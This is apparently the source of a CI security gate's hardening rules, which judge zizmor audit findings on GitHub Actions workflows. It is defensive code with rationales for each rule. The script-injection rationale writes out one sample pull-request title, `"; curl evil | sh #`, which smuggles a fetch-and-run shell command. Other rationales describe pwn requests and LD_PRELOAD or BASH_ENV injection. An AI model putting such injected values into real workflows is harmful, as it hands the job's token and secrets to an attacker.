"""Supply-chain hardening of the workflows themselves, judged from zizmor's audits.

zizmor (run by `gate.collect.zizmor`) is the engine: each rule here owns a set of
zizmor audits and judges their findings against the policy's threshold (`min_severity`,
`min_confidence`, in zizmor's own levels). A finding keeps zizmor's file, line, column
and documentation link. Findings the repository's zizmor configuration ignores are
shown as waived with their reason; when zizmor could not run, every rule here is
unknown with the reason, never a pass.
"""
from __future__ import annotations

from typing import Iterable

from gate.collect.zizmor import CONFIDENCES, SEVERITIES, ZizmorFinding, findings_for
from gate.model.lazyre import lazy
from gate.model.location import Location
from gate.rules.base import Context, Outcome, failed, passed, rule, skipped, unknown

THRESHOLD = {"min_severity": "low", "min_confidence": "low"}
ONLINE = {"online": False, **THRESHOLD}

# Which zizmor audits each rule judges. Every audit zizmor has that no other rule
# names falls to `hardening.other-findings`, so nothing zizmor reports is dropped.
AUDITS: dict[str, frozenset[str]] = {
    "hardening.pinned-actions": frozenset({"unpinned-uses"}),
    "hardening.token-permissions": frozenset({"excessive-permissions", "undocumented-permissions"}),
    "hardening.dangerous-triggers": frozenset({"dangerous-triggers"}),
    "hardening.script-injection": frozenset({"template-injection"}),
    "hardening.credential-persistence": frozenset({"artipacked"}),
    "hardening.cache-poisoning": frozenset({"cache-poisoning"}),
    "hardening.github-env": frozenset({"github-env"}),
    "hardening.unpinned-images": frozenset({"unpinned-images"}),
    "hardening.secrets-inherit": frozenset({"secrets-inherit"}),
    "hardening.secrets-exposure": frozenset({"overprovisioned-secrets", "unredacted-secrets",
                                             "hardcoded-container-credentials", "secrets-outside-env"}),
    "hardening.bot-conditions": frozenset({"bot-conditions"}),
    "hardening.unsound-conditions": frozenset({"unsound-condition", "unsound-contains", "unsound-ternary"}),
    "hardening.insecure-commands": frozenset({"insecure-commands"}),
    "hardening.known-vulnerable-actions": frozenset({"known-vulnerable-actions"}),
    "hardening.impostor-commits": frozenset({"impostor-commit", "ref-confusion"}),
}
MAPPED = frozenset().union(*AUDITS.values())
ONLINE_RULES = frozenset({"hardening.known-vulnerable-actions", "hardening.impostor-commits"})


def audits_of(rule_id: str, facts) -> frozenset[str]:
    """The zizmor audits a hardening rule judges; for other-findings, whatever zizmor reported beyond the mapped ones."""
    if rule_id in AUDITS:
        return AUDITS[rule_id]
    return frozenset(f.audit for f in (facts.findings if facts else ()) if f.audit not in MAPPED)


def third_party_uses(ev) -> list[tuple[Location, str]]:
    """(Location, uses) for every `uses:` in workflow files outside actions/*, ./ and docker://.

    Read from the gate's workflow model, not from zizmor: the corpus harness counts
    pinned uses with it."""
    out = []
    for wf in ev.workflows.workflows.values():
        for job in wf.jobs.values():
            if job.uses and not job.uses.startswith("./"):
                out.append((job.loc, job.uses))
            for step in job.steps:
                if step.via is None and step.uses and not step.uses.startswith(("./", "actions/", "docker://")):
                    out.append((step.loc, step.uses))
    return out


def _at_least(value: str, floor: str, levels: tuple[str, ...]) -> bool:
    # zizmor's "unknown" is never filtered out: a level it could not tell is not a low one
    return value == "unknown" or floor not in levels or levels.index(value) >= levels.index(floor)


def judge(rule_id: str, ev, ctx: Context, what: str) -> Outcome:
    """The shared judgement: zizmor's findings of the rule's audits against the policy's threshold."""
    facts = getattr(ev, "zizmor", None)
    if facts is None:
        return unknown("zizmor was not run, so the workflows' hardening is not known.")
    if not facts.ran:
        return unknown(f"zizmor could not run: {facts.reason}.")
    if not facts.inputs:
        return skipped("No workflows or actions.")
    if rule_id in ONLINE_RULES and not facts.online:
        return skipped("Online audits are off in the policy (`hardening.known-vulnerable-actions` param "
                       "`online: true` allows them, with a token): zizmor ran offline.")
    audits = audits_of(rule_id, facts)
    names = ", ".join(sorted(audits))
    disabled = sorted(audits & facts.disabled)
    if disabled and disabled == sorted(audits):
        return Outcome("waived", f"{facts.config} disables zizmor's {names} audit(s).")
    found = findings_for(facts, audits)
    sev, conf = str(ctx.params.get("min_severity", "low")), str(ctx.params.get("min_confidence", "low"))
    active = [f for f in found if f.waived is None
              and _at_least(f.severity, sev, SEVERITIES) and _at_least(f.confidence, conf, CONFIDENCES)]
    waived = [f for f in found if f.waived is not None]
    below = [f for f in found if f.waived is None and f not in active]
    details = [f.line() + "".join(f"; source {c}" for c in callers(ev, f)) for f in active] \
        + [f"waived: {f.line()} — {f.waived}" for f in waived] \
        + [f"below the threshold: {f.line()}" for f in below]
    if active:
        first = active[0]
        source = callers(ev, first)
        return failed(f"zizmor reports {len(active)} {what}; first: {first.annotation or first.desc} at "
                      f"{first.location}:{first.location.column} [{first.audit}]"
                      + (f", fed by {source[0]}" if source else "") + f"; see {first.url}",
                      *_locations(active), details=details)
    if waived:
        return Outcome("waived", f"{len(waived)} {what} waived by the repository's zizmor configuration; "
                                 f"first: {waived[0].waived}.", _locations(waived), tuple(details))
    tail = f" ({len(below)} below the policy's threshold: {sev} severity, {conf} confidence)" if below else ""
    what_ran = f"zizmor's {names} audit(s) report" if rule_id in AUDITS else "zizmor reports no other finding"
    return passed(f"{what_ran} nothing in {len(facts.inputs)} file(s){tail}.".replace("no other finding nothing", "no other finding"),
                  details=details)


_ACTION_INPUT = lazy(r"inputs\.([A-Za-z0-9_-]+)$")


def callers(ev, finding: ZizmorFinding) -> list[str]:
    """Where a value expanded inside a local action comes from: each `uses:` of that action
    in the workflow model and what it passes as the input (zizmor judges the sink; this names
    the source, from the gate's own model)."""
    m = _ACTION_INPUT.match(finding.expression)
    path = finding.location.path
    if not m or path.rsplit("/", 1)[-1] not in ("action.yml", "action.yaml"):
        return []
    action_dir, name = (path.rsplit("/", 1)[0] if "/" in path else ""), m.group(1)
    out = []
    for _, job in ev.workflows.all_jobs():
        for step in job.steps:
            if (step.uses or "").startswith("./") and _local_dir(step.uses) == action_dir and name in step.with_:
                out.append(f"{step.loc}: `{name}: {' '.join(str(step.with_[name]).split())[:200]}`")
    return list(dict.fromkeys(out))


def _local_dir(uses: str) -> str:
    parts: list[str] = []
    for part in uses.split("@", 1)[0].split("/"):
        if part == "..":
            parts = parts[:-1]
        elif part not in ("", "."):
            parts.append(part)
    return "/".join(parts)


def _locations(findings: Iterable[ZizmorFinding]) -> tuple[Location, ...]:
    seen: dict[Location, None] = {}
    for f in findings:
        seen[f.location] = None
    return tuple(seen)[:50]


@rule(
    id="hardening.pinned-actions", severity="warning", params=THRESHOLD,
    title="Actions are pinned to a commit SHA",
    rationale="""A tag or branch can be moved to malicious code at any time (tj-actions/changed-files,
    2025); only a full commit SHA fixes what runs with your secrets. Judged by zizmor's
    `unpinned-uses` audit and its pinning policy.""",
    remediation="Pin each `uses:` to a full 40-character commit SHA with the version in a comment (`@<sha> # v4.2.1`); `zizmor --fix` or pinact can do it.",
)
def pinned_actions(ev, ctx: Context):
    """zizmor's `unpinned-uses`: every `uses:` pinned as its policy requires (a hash by default)."""
    return judge("hardening.pinned-actions", ev, ctx, "unpinned `uses:`")


@rule(
    id="hardening.token-permissions", severity="warning", params=THRESHOLD,
    title="Workflow token permissions are set and least-privilege",
    rationale="""Without a `permissions:` block the GITHUB_TOKEN gets the repository's default,
    often write to everything; a compromised step then can push code or releases. Judged by
    zizmor's `excessive-permissions` (and, where its persona reports it, `undocumented-permissions`).""",
    remediation="Add `permissions: {}` or `contents: read` at the top of each workflow and grant writes per job where needed.",
)
def token_permissions(ev, ctx: Context):
    """zizmor's `excessive-permissions`: default or write-all token permissions, at workflow or job level."""
    return judge("hardening.token-permissions", ev, ctx, "excessive token permission(s)")


@rule(
    id="hardening.dangerous-triggers", severity="blocker", params=THRESHOLD,
    title="No privileged triggers that run with secrets on outsiders' events",
    rationale="""`pull_request_target` and `workflow_run` run with secrets and a write token on
    events anyone can cause; checking out or using a fork's code there hands both to the fork's
    author ("pwn request"). Judged by zizmor's `dangerous-triggers`.""",
    remediation="""Use `pull_request` for untrusted code; where a privileged follow-up is needed, keep it
    to artifacts and metadata and never check out the PR head there.""",
)
def dangerous_triggers(ev, ctx: Context):
    """zizmor's `dangerous-triggers`: pull_request_target, workflow_run and other privileged triggers."""
    return judge("hardening.dangerous-triggers", ev, ctx, "dangerous trigger(s)")


@rule(
    id="hardening.script-injection", severity="blocker", params=THRESHOLD,
    title="No attacker-controlled expressions inside scripts",
    rationale="""`${{ github.event.pull_request.title }}` in `run:` is pasted into the shell before it
    runs: a title like `"; curl evil | sh #` becomes code with the job's token. The same holds for
    free-text `inputs.*` of dispatch and called workflows, and for values passed into a local
    action and expanded there. Judged by zizmor's `template-injection`, which points at the sink.""",
    remediation="Pass the value through `env:` (`TITLE: ${{ github.event.pull_request.title }}`) and use \"$TITLE\" in the script.",
)
def script_injection(ev, ctx: Context):
    """zizmor's `template-injection`: untrusted contexts and free-text inputs expanded in `run:` or scripts."""
    return judge("hardening.script-injection", ev, ctx, "template injection(s)")


@rule(
    id="hardening.credential-persistence", severity="warning", params=THRESHOLD,
    title="Checkouts do not leave the token on disk",
    rationale="""`actions/checkout` writes the token into `.git/config` unless told not to; an
    artifact or a later step that uploads the workspace then leaks it (ArtiPACKED). Judged by
    zizmor's `artipacked`.""",
    remediation="Set `persist-credentials: false` on every `actions/checkout` that does not push.",
)
def credential_persistence(ev, ctx: Context):
    """zizmor's `artipacked`: checkouts that persist credentials."""
    return judge("hardening.credential-persistence", ev, ctx, "persisted checkout credential(s)")


@rule(
    id="hardening.cache-poisoning", severity="warning", params=THRESHOLD,
    title="Release workflows do not restore caches others can write",
    rationale="""A cache written by a pull-request run can be restored by a release or publish
    workflow, which then builds with the attacker's files. Judged by zizmor's `cache-poisoning`.""",
    remediation="Disable caching in workflows that publish artifacts (e.g. `cache: ''` or `lookup-only`), or key release caches apart.",
)
def cache_poisoning(ev, ctx: Context):
    """zizmor's `cache-poisoning`: caches restored in workflows that publish."""
    return judge("hardening.cache-poisoning", ev, ctx, "cache-poisoning risk(s)")


@rule(
    id="hardening.github-env", severity="warning", params=THRESHOLD,
    title="No untrusted writes to GITHUB_ENV or GITHUB_PATH",
    rationale="""Writing attacker-influenced text to `$GITHUB_ENV`/`$GITHUB_PATH` in a privileged
    workflow sets variables like `LD_PRELOAD` or `BASH_ENV` for every later step: code execution.
    Judged by zizmor's `github-env`.""",
    remediation="Pass values between steps with step outputs (`$GITHUB_OUTPUT`), not environment files, in privileged workflows.",
)
def github_env(ev, ctx: Context):
    """zizmor's `github-env`: environment-file writes in dangerous contexts."""
    return judge("hardening.github-env", ev, ctx, "dangerous environment-file write(s)")


@rule(
    id="hardening.unpinned-images", severity="warning", params=THRESHOLD,
    title="Container images of jobs and services are pinned",
    rationale="""A job `container:` or `services:` image by tag (or `latest`) can change under you, and
    runs with the job's secrets. Judged by zizmor's `unpinned-images`.""",
    remediation="Pin each image to a digest (`image@sha256:...`).",
)
def unpinned_images(ev, ctx: Context):
    """zizmor's `unpinned-images`: job containers and services not pinned to a digest."""
    return judge("hardening.unpinned-images", ev, ctx, "unpinned image(s)")


@rule(
    id="hardening.secrets-inherit", severity="warning", params=THRESHOLD,
    title="Reusable workflows get only the secrets they need",
    rationale="""`secrets: inherit` hands every secret of the caller to the called workflow, whatever it
    needs. Judged by zizmor's `secrets-inherit`.""",
    remediation="Pass the named secrets the called workflow declares instead of `secrets: inherit`.",
)
def secrets_inherit(ev, ctx: Context):
    """zizmor's `secrets-inherit`: calls that pass every secret."""
    return judge("hardening.secrets-inherit", ev, ctx, "`secrets: inherit` call(s)")


@rule(
    id="hardening.secrets-exposure", severity="warning", params=THRESHOLD,
    title="Secrets are not over-shared, hard-coded or unredacted",
    rationale="""`toJSON(secrets)` hands every secret to a step, credentials written into a workflow are
    public, and a secret parsed with `fromJSON` escapes log masking. Judged by zizmor's
    `overprovisioned-secrets`, `hardcoded-container-credentials`, `unredacted-secrets` and
    `secrets-outside-env`.""",
    remediation="Reference each secret by name, keep credentials in secrets (in an environment where it guards them), and never parse secrets into structured values.",
)
def secrets_exposure(ev, ctx: Context):
    """zizmor's secret audits: over-provisioned, hard-coded, unredacted or environment-less secrets."""
    return judge("hardening.secrets-exposure", ev, ctx, "secret exposure(s)")


@rule(
    id="hardening.bot-conditions", severity="warning", params=THRESHOLD,
    title="Privileged jobs are not guarded by a spoofable bot check",
    rationale="""`if: github.actor == 'dependabot[bot]'` is true for anyone who gets the bot to act on
    their pull request; it is not an identity check. Judged by zizmor's `bot-conditions`.""",
    remediation="Check `github.event.pull_request.user.login` (who opened it) instead of `github.actor`.",
)
def bot_conditions(ev, ctx: Context):
    """zizmor's `bot-conditions`: actor-based bot checks."""
    return judge("hardening.bot-conditions", ev, ctx, "spoofable bot condition(s)")


@rule(
    id="hardening.unsound-conditions", severity="warning", params=THRESHOLD,
    title="`if:` conditions mean what they say",
    rationale="""A multi-line `if: |` is always true, and `contains('refs/heads/main', github.ref)` is a
    substring test an attacker's branch name can satisfy: the guard does not guard. Judged by
    zizmor's `unsound-condition`, `unsound-contains` and `unsound-ternary`.""",
    remediation="Write conditions as a single expression, compare with `==` or `contains()` over a list (`fromJSON`).",
)
def unsound_conditions(ev, ctx: Context):
    """zizmor's unsound-condition audits."""
    return judge("hardening.unsound-conditions", ev, ctx, "unsound condition(s)")


@rule(
    id="hardening.insecure-commands", severity="warning", params=THRESHOLD,
    title="Deprecated workflow commands stay off",
    rationale="""`ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `set-env`/`add-path` from any log line:
    whatever prints text can set the environment. Judged by zizmor's `insecure-commands`.""",
    remediation="Remove `ACTIONS_ALLOW_UNSECURE_COMMANDS` and use environment files (`$GITHUB_ENV`).",
)
def insecure_commands(ev, ctx: Context):
    """zizmor's `insecure-commands`."""
    return judge("hardening.insecure-commands", ev, ctx, "insecure workflow command setting(s)")


@rule(
    id="hardening.known-vulnerable-actions", severity="warning", params=ONLINE,
    title="No actions with known vulnerabilities (online)",
    rationale="""Actions have advisories like any dependency; a version with a published vulnerability
    runs with your secrets. zizmor's `known-vulnerable-actions` needs the GitHub advisory database,
    so it runs only when the policy sets `online: true` here and a token is present.""",
    remediation="Upgrade each flagged action to a fixed version (and pin that version's SHA).",
)
def known_vulnerable_actions(ev, ctx: Context):
    """zizmor's `known-vulnerable-actions` (online only; skipped when the policy keeps zizmor offline)."""
    return judge("hardening.known-vulnerable-actions", ev, ctx, "action(s) with known vulnerabilities")


@rule(
    id="hardening.impostor-commits", severity="warning", params=THRESHOLD,
    title="Pinned SHAs and refs belong to the action's repository (online)",
    rationale="""A SHA from a fork is reachable through the parent repository's name, and a ref that is
    both a branch and a tag is ambiguous: either can run code the action's owners never wrote.
    Judged by zizmor's online `impostor-commit` and `ref-confusion`.""",
    remediation="Re-pin to a commit of the action's own repository, from a tag that is not also a branch.",
)
def impostor_commits(ev, ctx: Context):
    """zizmor's `impostor-commit` and `ref-confusion` (online only)."""
    return judge("hardening.impostor-commits", ev, ctx, "impostor or ambiguous ref(s)")


@rule(
    id="hardening.other-findings", severity="info", params={"min_severity": "medium", "min_confidence": "low"},
    title="zizmor's other audits",
    rationale="""Everything else zizmor reports (self-hosted runners, obfuscation, archived or
    typosquatted actions, use-trusted-publishing …) is shown, so no finding of the tool is dropped;
    from medium severity up it informs (costing a little score), below that it is listed only,
    unless a policy lowers `min_severity` or raises the rule.""",
    remediation="Follow the linked zizmor documentation for each finding.",
)
def other_findings(ev, ctx: Context):
    """Findings of zizmor's audits that no other hardening rule judges."""
    return judge("hardening.other-findings", ev, ctx, "other finding(s)")
